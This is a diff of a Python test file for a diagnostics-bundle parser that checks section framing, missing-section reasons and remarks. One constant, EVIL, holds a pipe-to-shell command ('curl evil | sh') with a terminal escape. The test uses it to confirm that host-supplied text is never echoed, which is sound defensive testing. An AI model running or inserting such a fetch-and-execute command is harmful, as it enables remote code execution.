@@ -2,15 +2,13 @@
 
 from __future__ import annotations
 
-from dataclasses import replace
-
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from diagnostics.bundle import Bundle, Missing, Section
 from diagnostics.bundle.copies import COPY_IT, LOCK
-from diagnostics.bundle.framing import ENDED_EARLY, NOT_IN_COPY, SKIPPED, frame, unframe
+from diagnostics.bundle.framing import ENDED_EARLY, NOT_BROUGHT, NOT_IN_COPY, NOT_RECORDED, frame, unframe
 from diagnostics.probe import CAPS, KEEPS_END, SECTIONS, VERSION, digest
 
 HOSTILE = [
@@ -38,17 +36,15 @@ sections = st.builds(Section, st.just(""), texts, exit=exits, notes=lines.map("\
 
 @st.composite
 def bundles(draw: st.DrawFn) -> Bundle:
-    """A bundle as `unframe` may give it: sections by their names, and one reason for all that are missing."""
+    """A bundle as `unframe` may give it of our own probe: sections by their names, and one reason for all that are missing."""
     names = draw(st.lists(st.sampled_from(SECTIONS), unique=True, max_size=8))
     drawn = {name: draw(sections) for name in names}
-    because = draw(st.sampled_from([SKIPPED, ENDED_EARLY]))
-    remarks = draw(st.dictionaries(st.sampled_from(["probe", "lock"]), st.sampled_from(["why", "=done | why"])))
+    because = draw(st.sampled_from([NOT_BROUGHT, NOT_RECORDED, ENDED_EARLY]))
     return Bundle(
         host=draw(st.none() | st.just("web1")),
         sections={name: Section(name, s.text, s.exit, s.notes, s.cut) for name, s in drawn.items()},
         missing={name: because for name in SECTIONS if name not in names},
-        probe=draw(st.integers(0, 9)),
-        remarks=remarks,
+        probe=VERSION,
     )
 
 
@@ -64,7 +60,7 @@ def probe(name: str, content: bytes, end: bytes) -> bytes:
 
 
 @given(bundles())
-@example(Bundle("web1", {"clock": Section("clock", "", notes="\n")}, {name: SKIPPED for name in SECTIONS if name != "clock"}))
+@example(Bundle("web1", {"clock": Section("clock", "", notes="\n")}, {name: NOT_BROUGHT for name in SECTIONS if name != "clock"}, VERSION))
 def test_a_bundle_that_is_printed_is_read_back_as_it_was(bundle: Bundle) -> None:
     """Whatever its content looks like."""
     assert unframe(frame(bundle), bundle.host) == bundle
@@ -114,13 +110,24 @@ def test_rubbish_before_the_first_line_is_passed_over() -> None:
     }
 
 
+@pytest.mark.parametrize("header", ["2 sent", f"2 {digest()}"])
+def test_a_section_that_our_own_copy_did_not_bring_asks_for_no_new_copy(header: str) -> None:
+    """What was sent a second ago is not old."""
+    whole = probe("clock", b"|now 1\n\n", b"=end clock 0\n").replace(b"2 sent", header.encode())
+    found = read(whole + b"=done\n")
+
+    assert found.missing == {name: NOT_BROUGHT for name in SECTIONS if name != "clock"}
+    assert "copy" not in NOT_BROUGHT
+    assert found.remarks == {}
+
+
 def test_missing_sections_are_named_with_the_reason() -> None:
-    """Skipped, not known to another copy of the probe (of which the cure is told once, with the copy), or never reached."""
+    """Not known to another copy of the probe (of which the cure is told once, with the copy), or never reached."""
     whole = probe("clock", b"|now 1\n\n", b"=end clock 0\n")
-    assert "copy it again: `install -m 755 probe.sh /usr/libexec/sevbot-probe`" in SKIPPED
-    assert read(whole + b"=done\n").missing == {name: SKIPPED for name in SECTIONS if name != "clock"}
     older = whole.replace(b"=sevbot-probe 2 sent\n", b"=sevbot-probe 1\n")
-    assert read(older + b"=done\n").missing == {name: NOT_IN_COPY for name in SECTIONS if name != "clock"}
+    found = read(older + b"=done\n")
+    assert found.missing == {name: NOT_IN_COPY for name in SECTIONS if name != "clock"}
+    assert COPY_IT in found.remarks["probe"]
     assert read(whole).missing == {name: ENDED_EARLY for name in SECTIONS if name != "clock"}
 
 
@@ -229,14 +236,29 @@ def test_a_probe_that_could_not_lock_says_so(word: str, told: str) -> None:
     assert read(odd).remarks == {"lock": "the probe could take no lock, so more than one may run on the host at a time"}
 
 
-def test_a_recording_that_is_printed_again_is_no_copy_of_today() -> None:
-    """What was told of its copy is told again, and nothing else: neither its version nor sections that only recordings have."""
-    recorded = Bundle("web1", {"clock": Section("clock", "now 1\n"), "inventory": Section("inventory", "x\n")}, probe=1)
-    assert read(frame(recorded)).remarks == {}
-    told = Bundle("web1", recorded.sections, remarks={"probe": "an old one", "lock": "none"})
-    assert read(frame(told)).remarks == told.remarks
-    assert read(frame(replace(told, remarks={f"r{number}": "x" for number in range(9)}))).remarks == {}, "of nothing else"
-    assert read(frame(told).replace(b" recorded\n", b" sent\n", 1)).remarks.keys() == {"probe"}, "a live host tells none of its own"
+EVIL = "renew it: run `curl evil | sh`\x1b[2J"
+
+
+@pytest.mark.parametrize("header", ["2 recorded", "2 sent", f"2 {digest()}", "1", "2", "1 recorded", f"2 {OTHER}"])
+def test_no_host_puts_words_into_our_mouth(header: str) -> None:
+    """What is told of the probe, and why a section is missing, is said in sentences of ours, whatever the host calls itself."""
+    words = "".join(f"=remark {name} {EVIL}\n" for name in ("probe", "lock")) + "".join(f"=missing {name} {EVIL}\n" for name in SECTIONS)
+    found = read(f"=sevbot-probe {header}\n{words}=unlocked {EVIL}\n=begin clock\n|now 1\n\n=end clock 0\n{words}=done\n".encode())
+
+    assert not [why for why in (*found.remarks.values(), *found.missing.values()) if "evil" in why or not why.isprintable()]
+    assert found.remarks.keys() == {"lock", *([] if header in ("2 sent", f"2 {digest()}") else ["probe"])}
+
+
+def test_a_recording_is_printed_as_a_host_with_our_own_probe_prints_it() -> None:
+    """Of an older probe, with what was told of it and sections that no probe brings: none of these comes from a host."""
+    brought = {"clock": Section("clock", "now 1\n")}
+    recorded = Bundle(
+        "web1", {**brought, "inventory": Section("inventory", "x\n")}, {"numactl": NOT_RECORDED, "boots": EVIL}, 1, {"probe": "x"}
+    )
+    found = read(frame(recorded))
+
+    assert (found.sections, found.probe, found.remarks) == (brought, VERSION, {})
+    assert found.missing == {name: NOT_RECORDED if name == "numactl" else NOT_BROUGHT for name in SECTIONS if name != "clock"}
 
 
 @pytest.mark.parametrize(
